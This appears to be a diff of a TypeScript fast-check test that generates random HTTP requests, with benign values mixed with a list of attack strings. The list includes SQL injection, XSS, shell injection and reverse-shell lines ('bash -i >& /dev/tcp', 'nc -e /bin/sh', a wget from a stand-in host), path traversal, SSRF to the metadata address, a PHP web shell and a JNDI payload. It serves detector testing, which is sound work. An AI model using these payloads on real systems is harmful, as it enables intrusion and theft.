@@ -4,27 +4,134 @@ import fc from 'fast-check';
 import type { Sent } from './support.ts';
 
 const BENIGN = [
-  ...['hello world', 'Zürich', '14 St. Mary\'s Road', '2026-11-21', 'anna.keller@example.com', '129.90', 'on', 'true'],
-  ...['https://www.example.com/articles?id=7#top', 'select a chair and order by phone', '{"a":[1,2]}', 'C:\\Users\\anna'],
-  ...['d41d8cd98f00b204e9800998ecf8427e', 'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'W/"1f4c-5d1e"', '12:30', 'naïve café'],
+  ...['hello world', 'Zürich', "14 St. Mary's Road", '2026-11-21', 'anna.keller@example.com', '129.90', 'on', 'true'],
+  ...[
+    'https://www.example.com/articles?id=7#top',
+    'select a chair and order by phone',
+    '{"a":[1,2]}',
+    'C:\\Users\\anna',
+  ],
+  ...[
+    'd41d8cd98f00b204e9800998ecf8427e',
+    'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln',
+    'W/"1f4c-5d1e"',
+    '12:30',
+    'naïve café',
+  ],
 ];
 
 const SOUP = [
   ...["' or '1'='1", '1 union select null,version()--', "'; drop table users;#", 'sleep(5)', "admin'/*", '0x41424344'],
-  ...['1 and 1=(select count(*) from information_schema.tables)', "' || (select 1) || '", 'benchmark(100000,md5(1))', '@@version'],
-  ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)', '<svg/onload=1>'],
-  ...['"><iframe src=//x.example>', 'style=expression(1)', 'vbscript:msgbox', '<!--#exec cmd="ls"-->', '{{7*7}}', '${7*7}'],
-  ...['; cat /etc/passwd', '| ls -la', '$(id)', '`wget http://x.example/a`', '&& ping -c 1 x.example', 'bash -i >& /dev/tcp/1/2'],
-  ...['cmd.exe /c dir', 'powershell -enc SQBFAFgA', '/bin/sh', 'nc -e /bin/sh', 'c^a^t', "c'a't /e'tc'/pas*wd", 'who$@ami'],
-  ...['../../../../etc/passwd', '..\\..\\boot.ini', '/proc/self/environ', '.htaccess', 'file:///etc/shadow', '/.git/config'],
-  ...['http://127.0.0.1/', 'http://169.254.169.254/latest/meta-data/', 'ftp://x.example/shell.php?', 'gopher://x', 'php://input'],
-  ...['<?php system($_GET[1]); ?>', '$_POST[', 'base64_decode(', 'O:4:"User":1:{', 'eval(', 'phpinfo()', 'auto_prepend_file='],
-  ...['java.lang.Runtime', 'rO0ABXNy', '${jndi:ldap://x.example/a}', 'com.opensymphony.xwork2', 'class.module.classLoader', '#_memberAccess'],
-  ...['require("child_process")', '__proto__', 'constructor.prototype', 'process.env', '_$$ND_FUNC$$_', 'new Function('],
-  ...['PHPSESSID=1', 'document.cookie', '\r\nSet-Cookie: a=b', '\nContent-Type: text/html\r\n\r\n', '%0d%0aLocation:', '{"$ne":1}'],
-  ...['sqlmap/1.4', 'Nikto', 'nessus', 'masscan', 'HTTP/1.1\r\nHost: x', '*)(uid=*', 'ognl', '(){ :;}; echo', '<%= 7 %>'],
-  ...["SQLSTATE[42000]", 'ORA-01756', 'You have an error in your SQL syntax', 'java.lang.NullPointerException', 'Index of /'],
-  ...['<b>Warning</b>: include()', 'r57shell', 'Microsoft OLE DB Provider', 'The resource cannot be found.', 'total 24\ndrwxr'],
+  ...[
+    '1 and 1=(select count(*) from information_schema.tables)',
+    "' || (select 1) || '",
+    'benchmark(100000,md5(1))',
+    '@@version',
+  ],
+  ...[
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    'javascript:alert(document.cookie)',
+    '<svg/onload=1>',
+  ],
+  ...[
+    '"><iframe src=//x.example>',
+    'style=expression(1)',
+    'vbscript:msgbox',
+    '<!--#exec cmd="ls"-->',
+    '{{7*7}}',
+    '${7*7}',
+  ],
+  ...[
+    '; cat /etc/passwd',
+    '| ls -la',
+    '$(id)',
+    '`wget http://x.example/a`',
+    '&& ping -c 1 x.example',
+    'bash -i >& /dev/tcp/1/2',
+  ],
+  ...[
+    'cmd.exe /c dir',
+    'powershell -enc SQBFAFgA',
+    '/bin/sh',
+    'nc -e /bin/sh',
+    'c^a^t',
+    "c'a't /e'tc'/pas*wd",
+    'who$@ami',
+  ],
+  ...[
+    '../../../../etc/passwd',
+    '..\\..\\boot.ini',
+    '/proc/self/environ',
+    '.htaccess',
+    'file:///etc/shadow',
+    '/.git/config',
+  ],
+  ...[
+    'http://127.0.0.1/',
+    'http://169.254.169.254/latest/meta-data/',
+    'ftp://x.example/shell.php?',
+    'gopher://x',
+    'php://input',
+  ],
+  ...[
+    '<?php system($_GET[1]); ?>',
+    '$_POST[',
+    'base64_decode(',
+    'O:4:"User":1:{',
+    'eval(',
+    'phpinfo()',
+    'auto_prepend_file=',
+  ],
+  ...[
+    'java.lang.Runtime',
+    'rO0ABXNy',
+    '${jndi:ldap://x.example/a}',
+    'com.opensymphony.xwork2',
+    'class.module.classLoader',
+    '#_memberAccess',
+  ],
+  ...[
+    'require("child_process")',
+    '__proto__',
+    'constructor.prototype',
+    'process.env',
+    '_$$ND_FUNC$$_',
+    'new Function(',
+  ],
+  ...[
+    'PHPSESSID=1',
+    'document.cookie',
+    '\r\nSet-Cookie: a=b',
+    '\nContent-Type: text/html\r\n\r\n',
+    '%0d%0aLocation:',
+    '{"$ne":1}',
+  ],
+  ...[
+    'sqlmap/1.4',
+    'Nikto',
+    'nessus',
+    'masscan',
+    'HTTP/1.1\r\nHost: x',
+    '*)(uid=*',
+    'ognl',
+    '(){ :;}; echo',
+    '<%= 7 %>',
+  ],
+  ...[
+    'SQLSTATE[42000]',
+    'ORA-01756',
+    'You have an error in your SQL syntax',
+    'java.lang.NullPointerException',
+    'Index of /',
+  ],
+  ...[
+    '<b>Warning</b>: include()',
+    'r57shell',
+    'Microsoft OLE DB Provider',
+    'The resource cannot be found.',
+    'total 24\ndrwxr',
+  ],
 ];
 
 const one = <T>(choices: readonly T[]): fc.Arbitrary<T> => fc.constantFrom(...choices);
@@ -73,7 +180,10 @@ const value: fc.Arbitrary<string> = fc.oneof(
   { arbitrary: bytes, weight: 1 },
 );
 const name = fc.oneof(
-  { arbitrary: one(['id', 'q', 'page', 'user.name', 'x_y', 'ID', 'redirect_to', 'items[0]', 'pass', 'file', '']), weight: 8 },
+  {
+    arbitrary: one(['id', 'q', 'page', 'user.name', 'x_y', 'ID', 'redirect_to', 'items[0]', 'pass', 'file', '']),
+    weight: 8,
+  },
   { arbitrary: piece, weight: 1 },
 );
 const pairs = fc.array(fc.tuple(name, value), { maxLength: 4 });
@@ -89,11 +199,15 @@ const oneLine = (text: string): string => text.replace(/[\r\n\0]/g, ' ').trim();
 
 const jsonBody = pairs.map((all) => {
   const [first, ...rest] = all.map(([key, raw]) => [key, raw] as const);
-  return JSON.stringify({ ...Object.fromEntries(rest), list: [1, null, true, { [first?.[0] ?? 'a']: first?.[1] ?? '' }] });
+  return JSON.stringify({
+    ...Object.fromEntries(rest),
+    list: [1, null, true, { [first?.[0] ?? 'a']: first?.[1] ?? '' }],
+  });
 });
 const xmlText = (text: string): string => text.replace(/[<&>"\0-\x08\x0b-\x1f]/g, (byte) => `&#x${hex(byte)};`);
 const xmlBody = pairs.map(
-  (all) => `<?xml version="1.0"?><r>${all.map(([, raw], i) => `<e a${i}="${xmlText(raw)}">${xmlText(raw)}</e>`).join('')}</r>`,
+  (all) =>
+    `<?xml version="1.0"?><r>${all.map(([, raw], i) => `<e a${i}="${xmlText(raw)}">${xmlText(raw)}</e>`).join('')}</r>`,
 );
 const multipartBody = fc.array(fc.tuple(name, value, fc.option(value), fc.boolean()), { maxLength: 3 }).map((parts) => {
   const quoted = (text: string): string => oneLine(text).replace(/["\\]/g, '\\$&');
@@ -115,7 +229,21 @@ const body: fc.Arbitrary<readonly [type: string, text: string]> = fc.oneof(
 );
 
 const header = fc.tuple(
-  one(['user-agent', 'referer', 'accept', 'accept-language', 'x-forwarded-for', 'authorization', 'range', 'x.y', 'x_z', 'content-length', 'transfer-encoding', 'accept-encoding', 'x-file-name']),
+  one([
+    'user-agent',
+    'referer',
+    'accept',
+    'accept-language',
+    'x-forwarded-for',
+    'authorization',
+    'range',
+    'x.y',
+    'x_z',
+    'content-length',
+    'transfer-encoding',
+    'accept-encoding',
+    'x-file-name',
+  ]),
   value,
 );
 
@@ -123,7 +251,16 @@ const header = fc.tuple(
 export const anyExchange: fc.Arbitrary<Sent> = fc
   .record({
     method: one(['GET', 'GET', 'POST', 'POST', 'PUT', 'HEAD', 'TRACE', 'x']),
-    path: one(['/', '/index.php', '/a/b.html', '/.git/config', '/shop/..%2f..%2fetc/passwd', '/x%00y', '/%ff', '/wp-login.php']),
+    path: one([
+      '/',
+      '/index.php',
+      '/a/b.html',
+      '/.git/config',
+      '/shop/..%2f..%2fetc/passwd',
+      '/x%00y',
+      '/%ff',
+      '/wp-login.php',
+    ]),
     protocol: one(['HTTP/1.1', 'HTTP/1.1', 'HTTP/2.0', 'HTTP/1.0', 'HTTP/0.9']),
     host: one(['app.example.com', '127.0.0.1', '']),
     query,
@@ -140,9 +277,15 @@ export const anyExchange: fc.Arbitrary<Sent> = fc
     headers: [
       ...(host === '' ? [] : ['host', host]),
       ...headers.flatMap(([key, raw]) => [key, oneLine(raw)]),
-      ...(cookies.length === 0 ? [] : ['cookie', oneLine(cookies.map(([key, raw]) => `${key}=${raw.replaceAll(';', ',')}`).join('; '))]),
+      ...(cookies.length === 0
+        ? []
+        : ['cookie', oneLine(cookies.map(([key, raw]) => `${key}=${raw.replaceAll(';', ',')}`).join('; '))]),
       ...(type === '' ? [] : ['content-type', type, 'content-length', String(text.length)]),
     ],
     body: text,
-    response: { status, headers: ['content-type', 'text/html; charset=utf-8', 'x-powered-by', oneLine(page)], body: page },
+    response: {
+      status,
+      headers: ['content-type', 'text/html; charset=utf-8', 'x-powered-by', oneLine(page)],
+      body: page,
+    },
   }));
